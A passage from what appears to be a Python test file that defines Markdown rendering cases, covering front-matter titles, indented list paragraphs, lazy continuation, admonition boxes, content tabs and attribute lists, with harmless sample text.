            [], ("title: Ask before you advise", 'title: "Don\'t push: ask a < b question"')
        ),
        "list-paragraph-4-spaces": Case(
            [],
            (
                PARAGRAPH,
                "1. Ask one question.\n\n    Then listen to the answer.\n2. Offer one idea.",
            ),
        ),
        "list-lazy-continuation": Case(
            [], (PARAGRAPH, "1. Ask one question\n  and listen to the answer.\n2. Offer one idea.")
        ),
        "box-body-4-spaces": Case(
            [], (PARAGRAPH, '??? example "A worked answer"\n\n    The answer, in the box.')
        ),
        "box-no-title": Case([], (PARAGRAPH, "!!! note\n\n    A note, in the box.")),
        "tab-body": Case([], (PARAGRAPH, '=== "Phone"\n\n    On the phone, ask first.')),
        "attr-list-class": Case([], (PARAGRAPH, "Read [the guide](../index.md){ .md-button }.")),
    }
)
